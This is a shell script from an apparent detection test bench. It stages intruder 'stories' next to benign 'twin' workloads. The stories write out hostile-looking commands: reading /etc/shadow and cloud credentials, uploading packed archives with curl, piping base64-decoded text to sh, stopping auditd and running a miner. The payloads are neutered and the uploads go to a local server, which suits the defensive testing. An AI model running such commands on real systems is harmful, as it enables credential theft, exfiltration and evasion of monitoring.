# Sourced by test/bench/stories: what intruders do (story_*), and people who use the same tools for ordinary work (twin_*). Each runs
# in a folder of its own as the working directory, with $url, a server on this machine that takes and gives files. $secret is a copy
# of a file that rules protect; nothing of the machine itself is changed.

pause() { sleep "${1:-0.3}"; }

# A program that answers the network starts a shell, which looks around, fetches a tool, and sends what it finds.
story_web_shell() {
  cp /bin/bash ./nginx
  ./nginx -c 'sh -c "id; whoami; uname -a; cat /etc/passwd > /dev/null"; sleep 0.2; true'
  sh -c 'find / -maxdepth 2 -perm -4000 -type f 2> /dev/null | head -n 1; true'
  sh -c "curl -s -o /dev/shm/story-tool $url/tool; true"
  sh -c 'cp /bin/true /dev/shm/story-tool; chmod 755 /dev/shm/story-tool; /dev/shm/story-tool; true'
  sh -c "tar czf out.tgz --exclude=out.tgz . ; curl -s -T out.tgz $url/; true"
  rm -f /dev/shm/story-tool
}

# Somebody with a stolen password reads what the account may read, and packs it with a password.
story_stolen_account() {
  bash -c 'who; last -n 2; id; ss -tn; ps aux; true' > /dev/null
  bash -c 'grep -ri "password" /etc/ssl 2> /dev/null | head -n 1; find / -maxdepth 3 -name "id_rsa*" 2> /dev/null | head -n 1; true'
  bash -c 'cat /etc/shadow > copied; true'
  bash -c 'zip -q -P secret out.zip copied; true'
  bash -c "curl -s -F file=@out.zip $url/; true"
}

# A script from the network runs from memory, stops who watches, and comes back by cron.
story_miner() {
  bash -c "curl -s $url/install | cat > /dev/null; true"
  bash -c 'echo Y3AgL2Jpbi90cnVlIC9kZXYvc2htL3N0b3J5LW1pbmVy | base64 -d | sh; true'
  bash -c 'chmod 755 /dev/shm/story-miner; /dev/shm/story-miner -o pool.example.com:3333; true'
  bash -c 'pkill -x story-auditd-falco; systemctl stop auditd 2> /dev/null; true'
  bash -c 'crontab /dev/null-story 2> /dev/null; true'
  rm -f /dev/shm/story-miner
}

# One line of Python, hours between the steps in a real attack: here the processes leave their parents between them.
story_daemonised() {
  setsid -f bash -c 'whoami; uname -a; true' > /dev/null
  pause 0.6
  (setsid bash -c "python3 -c 'import socket,base64; socket.socket().close()'; true" &)
  pause 0.8
  (setsid bash -c 'cat /etc/shadow > copied; true' &)
  pause 0.6
  (setsid bash -c "base64 -d < /dev/null > x; tar cJf out.txz copied; curl -s --data-binary @out.txz $url/; true" &)
  pause 1
}

# Keys of clouds are looked for, and the cloud is asked who one is.
story_cloud_keys() {
  mkdir -p home/.aws bin
  echo key > home/.aws/credentials
  printf '#!/bin/sh\nexit 0\n' > bin/aws
  chmod 755 bin/aws
  bash -c 'id; env > /dev/null; true' > /dev/null
  bash -c 'find . -name credentials; cat home/.aws/credentials; true' > /dev/null
  bash -c 'cp /bin/true ./aws; ./aws sts get-caller-identity; true'
  bash -c 'grep -r "secret" . ; true' > /dev/null
  bash -c "tar czf out.tgz home; curl -s -T out.tgz $url/; true"
}

# A session leaves a script, and a job of another service runs it later: only the file connects them.
story_left_script() {
  bash -c 'who; id; ss -tn; true' > /dev/null
  bash -c 'cat /etc/shadow > copied; true'
  printf '#!/bin/bash\ntar czf out.tgz copied\nopenssl enc -aes-256-cbc -pbkdf2 -k word -in out.tgz -out out.enc\ncurl -s -T out.enc %s/\ntrue\n' "$url" > /dev/shm/story-job
  bash -c 'chmod 755 /dev/shm/story-job; true'
  (echo $BASHPID > "$elsewhere/cgroup.procs" && exec setsid bash -c '/dev/shm/story-job; true')
  rm -f /dev/shm/story-job
}

# An administrator finds out why a disk is full, and keeps the logs.
twin_administrator() {
  bash -c 'w; id; uname -r; df -h; ps aux; ss -tln; true' > /dev/null
  bash -c 'find . -size +1M; du -s .; true' > /dev/null
  bash -c 'tar czf logs.tgz --exclude=logs.tgz . ; xz -k logs.tgz; true'
}

# A release is fetched, unpacked and started.
twin_deploy() {
  bash -c "curl -s -o release.tgz $url/release; true"
  bash -c 'mkdir -p app; tar czf release.tgz app; tar xzf release.tgz; true'
  bash -c 'cp /bin/true app/server; chmod 755 app/server; app/server; true'
  bash -c 'id -u; hostname; uname -m; true' > /dev/null
  bash -c "curl -s $url/health; true" > /dev/null
}

# A deployment leaves a script that a job of another service runs: the file connects them, and nothing of it is an attack.
twin_left_script() {
  printf '#!/bin/bash\ntar czf data.tgz --exclude=data.tgz .\ncurl -s -T data.tgz %s/\ntrue\n' "$url" > /dev/shm/story-backup
  bash -c 'chmod 755 /dev/shm/story-backup; id -u; hostname; true' > /dev/null
  (echo $BASHPID > "$elsewhere/cgroup.procs" && exec setsid bash -c '/dev/shm/story-backup; true')
  rm -f /dev/shm/story-backup
}

# A program is built, as configure scripts do it.
twin_build() {
  cat > c.c <<< 'int main(void) { return 0; }'
  bash -c 'uname -m; uname -s; true' > /dev/null
  for i in 1 2 3; do bash -c 'cc -o /tmp/story-conftest c.c && /tmp/story-conftest; true'; done
  bash -c 'tar cf dist.tar c.c; gzip -f dist.tar; true'
  rm -f /tmp/story-conftest
}

# A backup is made and copied away, each night.
twin_backup() {
  mkdir -p data
  bash -c 'tar czf backup.tgz data; sha256sum backup.tgz; true' > /dev/null
  bash -c 'rsync -a data/ copy/; true'
  bash -c "curl -s -T backup.tgz $url/; true"
}

# A developer looks for a word, decodes a token, and asks a server.
twin_developer() {
  bash -c 'grep -r "token" . ; find . -name "*.py"; true' > /dev/null
  bash -c 'echo aGFsbG8K | base64 -d; python3 -c "import json; print(json.dumps([1]))"; true' > /dev/null
  bash -c "curl -s $url/api; whoami; true" > /dev/null
}
